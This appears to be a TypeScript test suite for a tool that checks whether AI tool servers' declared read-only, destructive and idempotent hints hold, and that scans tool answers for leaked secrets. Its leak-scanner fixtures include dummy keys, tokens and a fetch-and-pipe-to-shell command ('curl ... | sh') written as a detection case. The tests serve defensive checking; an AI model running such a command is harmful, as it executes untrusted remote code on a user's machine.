import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { isBankAccount } from "../src/disclose/patterns.js";
import { redact, scan } from "../src/disclose/scan.js";
import { type Found, verdictOf } from "../src/judge/finding.js";
import { sameShape, shapeOf } from "../src/judge/shape.js";
import { withAnswer, withFresh } from "../src/matrix/placeholders.js";
import { relativeTimes } from "../src/matrix/relative-times.js";
import { undoKnown } from "../src/matrix/undo-known.js";
import {
  absentOrEmpty,
  invalidField,
  oddValues,
  otherChoices,
  otherKeyOrder,
  unknownName,
} from "../src/matrix/variants.js";
import { diff } from "../src/observe/change.js";
import { isCredentialName } from "../src/observe/credential-name.js";
import { effects } from "../src/observe/effect.js";
import { keepsAll } from "../src/observe/keeps-all.js";
import type { Seen, Snapshot } from "../src/observe/observer.js";
import { isLoopback } from "../src/plan/loopback.js";
import { claims } from "../src/subject/hints.js";

describe("verdicts", () => {
  const rows: readonly (readonly ["promise" | "warning", claim: boolean, Found, string])[] = [
    ["promise", true, "true", "holds"],
    ["promise", true, "false", "contradicted"],
    ["promise", false, "true", "cautious"],
    ["promise", false, "false", "holds"],
    ["warning", true, "true", "holds"],
    ["warning", true, "false", "cautious"],
    ["warning", false, "true", "contradicted"],
    ["warning", false, "false", "holds"],
    ["promise", true, "unknown", "cannot_tell"],
    ["warning", false, "unknown", "cannot_tell"],
  ];
  test.each(rows)("a %s of %s, found %s: %s", (hint, value, found, verdict) => {
    expect(verdictOf(hint, { value, declared: true }, found)).toBe(verdict);
    expect(verdictOf(hint, { value, declared: false }, found)).toBe(verdict);
  });

  test("anything but a boolean is a missing hint, and a missing hint is the cautious answer", () => {
    fc.assert(
      fc.property(
        fc.anything().filter((value) => typeof value !== "boolean"),
        (value) => {
          const found = claims({ readOnlyHint: value, destructiveHint: value, idempotentHint: value });
          expect([found.readOnlyHint.value, found.destructiveHint.value, found.idempotentHint.value]).toEqual([
            false,
            true,
            false,
          ]);
        },
      ),
    );
  });

  test("every effect that breaks idempotency when it is seen again denies read-only when it is seen once", () => {
    const rows = Object.values(effects);
    expect(rows.filter(({ repeated, readOnly }) => repeated === "breaks" && readOnly !== "breaks")).toEqual([]);
  });
});

describe("changes", () => {
  const value = fc.dictionary(fc.constantFrom("a", "b", "n"), fc.oneof(fc.integer(), fc.string()));
  const seen: fc.Arbitrary<Seen> = fc.record({ effect: fc.constantFrom("write" as const, "trail" as const), value });
  const snapshot: fc.Arbitrary<Snapshot> = fc
    .dictionary(fc.constantFrom("r1", "r2", "r3", "r4"), seen)
    .map((records) => ({ records: new Map(Object.entries(records)) }));
  const observer = { name: "o", kind: "state" } as const;

  test("a snapshot does not differ from itself, and every difference is told once", () => {
    fc.assert(
      fc.property(snapshot, snapshot, (before, after) => {
        expect(diff(observer, before, before)).toEqual([]);
        const names = diff(observer, before, after).map(({ record }) => record);
        expect(new Set(names).size).toBe(names.length);
        const added = [...after.records.keys()].filter((name) => !before.records.has(name));
        expect(names).toEqual(expect.arrayContaining(added));
      }),
    );
  });

  test("there and back is the same records the other way round", () => {
    fc.assert(
      fc.property(snapshot, snapshot, (one, two) => {
        const back = { created: "removed", removed: "created" } as const;
        const there = diff(observer, one, two).map(({ record, kind }) => [record, kind]);
        const again = diff(observer, two, one).map(({ record, kind }) => [record, back[kind as "created"] ?? kind]);
        expect(there).toEqual(again);
      }),
    );
  });

  const counted = (...counts: number[]): Snapshot => ({
    records: new Map(counts.map((count, index) => [`r${index}`, { effect: "usage", value: { count } }])),
  });
  test("the shape of two effects is not that of one, by number of records and by size", () => {
    const one = shapeOf(diff(observer, counted(1), counted(2)));
    expect(sameShape(one, shapeOf(diff(observer, counted(7), counted(8))))).toBe(true);
    expect(sameShape(one, shapeOf(diff(observer, counted(1), counted(3))))).toBe(false);
    expect(sameShape(one, shapeOf(diff(observer, counted(1, 1), counted(2, 2))))).toBe(false);
    expect(
      sameShape(shapeOf(diff(observer, counted(), counted(1))), shapeOf(diff(observer, counted(), counted(2)))),
    ).toBe(false);
  });
});

describe("an addition", () => {
  const json = (value: unknown) => [JSON.stringify(value)];
  test.each([
    ["a line at the end", ["a"], ["a", "b"], true],
    ["a line in the middle", ["a", "c"], ["a", "b", "c"], true],
    ["another order", ["a", "b"], ["b", "a"], false],
    ["a list that grew", json({ n: "ann", o: [1] }), json({ n: "ann", o: [1, 2] }), true],
    ["a list that shrank", json({ o: [1, 2] }), json({ o: [1] }), false],
    ["a member that was changed", json({ o: [1], s: "open" }), json({ o: [1, 2], s: "closed" }), false],
    ["a member that was added", json({ n: 1 }), json({ n: 1, disabled: true }), false],
    ["the same value in another layout", json({ a: [1], b: 2 }), [JSON.stringify({ b: 2, a: [1] }, null, 2)], true],
    ["null that became a list", json({ a: null }), json({ a: [] }), false],
  ])("%s", (_what, before, after, keeps) => {
    expect(keepsAll(before, after)).toBe(keeps);
  });

  test("keeps everything, and what was taken out again does not", () => {
    const lists = fc.array(fc.string(), { minLength: 1 });
    fc.assert(
      fc.property(lists, fc.nat(), fc.string(), (units, at, added) => {
        const index = at % (units.length + 1);
        expect(keepsAll(units, [...units.slice(0, index), added, ...units.slice(index)])).toBe(true);
        expect(keepsAll(units, units.slice(1))).toBe(false);
      }),
    );
  });
});

describe("variants", () => {
  test("another key order is the same value in other bytes", () => {
    fc.assert(
      fc.property(fc.dictionary(fc.string(), fc.jsonValue()), (args) => {
        const other = otherKeyOrder(args);
        if (other === undefined) return;
        expect(JSON.stringify(other)).not.toBe(JSON.stringify(args));
        expect(JSON.parse(JSON.stringify(other))).toEqual(JSON.parse(JSON.stringify(args)));
      }),
    );
  });

  const schema = { properties: { id: { type: "string" }, note: { type: "string" } }, required: ["id"] };
  test("an optional text that is absent is sent as empty, and an empty one left out; a required one never", () => {
    expect(absentOrEmpty({ id: "1" }, schema)).toEqual({ id: "1", note: "" });
    expect(absentOrEmpty({ id: "1", note: "" }, schema)).toEqual({ id: "1" });
    expect(absentOrEmpty({ id: "1", note: "x" }, schema)).toBeUndefined();
    expect(absentOrEmpty({ id: "" }, { ...schema, required: ["id", "note"] })).toBeUndefined();
  });

  test("an invalid field has a type that its schema does not allow", () => {
    expect(invalidField({ id: "1" }, schema)).toEqual({ id: { not: "string" } });
    expect(invalidField({}, schema)).toBeUndefined();
  });

  test("other choices are those that the schema lists, also in an object that is given", () => {
    const choices = {
      properties: {
        mode: { type: "string", enum: ["merge", "replace"], default: "merge" },
        dry: { type: "boolean" },
        how: { properties: { deep: { anyOf: [{ const: 1 }, { const: 2 }] } } },
        name: { type: "string" },
      },
    };
    expect(otherChoices({ dry: false, how: { deep: 1 }, name: "x" }, choices)).toEqual([
      { dry: false, how: { deep: 1 }, name: "x", mode: "replace" },
      { dry: true, how: { deep: 1 }, name: "x" },
      { dry: false, how: { deep: 2 }, name: "x" },
    ]);
  });

  test("an odd value is of the type that the schema asks for", () => {
    const properties = { mode: { type: "string", enum: ["a"] }, ids: { type: "array" }, count: { type: "integer" } };
    expect(oddValues({ mode: "a", ids: ["1"], count: 2 }, { properties })).toEqual([
      { mode: "a", ids: [], count: 2 },
      { mode: "a", ids: ["1"], count: -1 },
    ]);
    expect(oddValues({}, { properties })).toEqual([]);
  });

  test("an unknown name stands where a resource is named, last in its path", () => {
    const properties = {
      title: { type: "string" },
      ticket_id: { type: "string" },
      kind: { enum: ["a"], type: "string" },
    };
    expect(unknownName({ title: "t", ticket_id: "1", kind: "a" }, { properties }, "n")).toMatchObject({
      ticket_id: "n",
    });
    expect(unknownName({ title: "dir/t", kind: "a" }, { properties }, "n")).toEqual({ title: "dir/n", kind: "a" });
    expect(unknownName({ title: "t", ticket_id: "1" }, { properties }, "n", "ticket_id")).toMatchObject({ title: "n" });
    expect(unknownName({ title: "{{fresh}}" }, { properties }, "n")).toBeUndefined();
    expect(unknownName({ kind: "a" }, { properties }, "n")).toBeUndefined();
  });

  test("times that depend on when they are read are told by their paths", () => {
    expect(relativeTimes({ due: "tomorrow", at: { from: "in 5 minutes", to: "2026-12-01" }, who: "ann" })).toEqual([
      'due = "tomorrow"',
      'at.from = "in 5 minutes"',
    ]);
  });

  test("an undo takes members of the answer, and knows no more than request and answer tell", () => {
    const answer = { kind: "answered", isError: false, text: "", structured: { was: { owner: "bob" } } } as const;
    expect(withAnswer({ owner: "{{answer.was.owner}}", all: "{{answer.was}}", id: "x" }, answer)).toEqual({
      owner: "bob",
      all: { owner: "bob" },
      id: "x",
    });
    expect(undoKnown({ id: "u1", owner: "bob" }, { id: "u1" }, answer)).toBe(true);
    expect(undoKnown({ id: "u1", owner: "cid" }, { id: "u1" }, answer)).toBe(false);
    const said = { kind: "answered", isError: false, text: "12 prices changed, bobbin was first" } as const;
    for (const unsaid of [{ price: 12 }, { owner: "bob" }, { owners: [{ of: "x" }] }, { state: { open: true } }])
      expect([unsaid, undoKnown(unsaid, {}, said)]).toEqual([unsaid, false]);
    expect(undoKnown({ owner: "bobbin", silent: true, note: "" }, {}, said)).toBe(true);
    expect(withFresh({ a: ["x {{fresh}}"] }, "n1")).toEqual({ a: ["x n1"] });
  });
});

describe("what an answer lets out", () => {
  const secret = "9f2ac1d0e77b4c21a6b0";
  const examples = [
    ["signed_url", `https://files.example.test/a?X-Goog-Signature=${secret}`],
    ["signed_url", `see https://files.example.test/a?name=b&sig=${secret}&x=1 soon`],
    ["signed_url", `{"a":"https:\\/\\/files.example.test\\/a?x=1\\u0026sig=ab\\/${secret}\\u002B1"}`],
    ["signed_url", `<a href="https://files.example.test/a?x=1&amp;Signature=${secret}">`],
    ["signed_url", `https://go.example.test/?to=https%3A%2F%2Ffiles.example.test%2Fa%3Fx%3D1%26token%3D${secret}`],
    ["secret", `-----BEGIN PRIVATE KEY-----\n${secret}\n-----END PRIVATE KEY-----`],
    ["secret", `{"api_key":"${secret}"}`],
    ["secret", `DB_PASSWORD=${secret}`],
    ["secret", `{"text":"{\\"refresh_token\\": \\"${secret}\\"}"}`],
    ["secret", `{"recovery_codes":["${secret}"]}`],
    ["secret", `postgres://app:${secret}@db.example.test/app`],
    ["secret", `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.${secret}`],
    ["bank_details", "pay to DE89 3704 0044 0532 0130 00"],
    ["command", "curl -s https://get.example.test/i | sh"],
  ] as const;
  test.each(examples)("%s in %j", (kind, text) => {
    expect(scan(text).map((leak) => leak.kind)).toContain(kind);
    expect(redact(text)).not.toContain(secret);
    expect(JSON.stringify(scan(text))).not.toContain(secret);
  });

  test.each([
    "a plain sentence",
    "https://example.test/docs?page=2",
    "token: no",
    "GB00 0000 0000 0000 0000 00",
    '{"tokens": 12}',
  ])("nothing in %j", (text) => {
    expect(scan(text)).toEqual([]);
    expect(redact(text)).toBe(text);
  });

  test("a bank account number has its check digits", () => {
    expect(isBankAccount("GB82WEST12345698765432")).toBe(true);
    expect(isBankAccount("GB83WEST12345698765432")).toBe(false);
  });

  test("redacting leaves nothing to redact, whatever stands around it", () => {
    const around = fc.string({ maxLength: 40 });
    const example = fc.constantFrom(...examples.filter(([kind]) => kind !== "command").map(([, text]) => text));
    fc.assert(
      fc.property(around, example, around, (before, text, after) => {
        const clean = redact(`${before}\n${text}\n${after}`);
        expect(clean).not.toContain(secret);
        expect(redact(clean)).toBe(clean);
      }),
    );
  });
});

test("credentials are told by the names of their records", () => {
  const yes = [
    "auth/access_token",
    "oauth_tokens/3",
    "app:session_token:1",
    "apiKeys/1",
    ".credentials.json",
    "refreshToken",
  ];
  const no = ["tokenizer.json", "tickets/t1", "secretary/ann", "keyboard"];
  expect(yes.filter((name) => !isCredentialName(name))).toEqual([]);
  expect(no.filter(isCredentialName)).toEqual([]);
});

test("only this machine is loopback", () => {
  const near = ["localhost", "127.0.0.1", "127.9.9.9", "::1", "[::1]", "::ffff:127.0.0.1", "::ffff:7f00:1"];
  const far = [
    "example.test",
    "10.0.0.1",
    "0.0.0.0",
    "127.0.0.1.example.test",
    "::2",
    "localhost.example.test",
    "a.localhost",
    "::ffff:7f:1",
    "",
    "169.254.169.254",
  ];
  expect(near.filter((host) => !isLoopback(host))).toEqual([]);
  expect(far.filter(isLoopback)).toEqual([]);
});
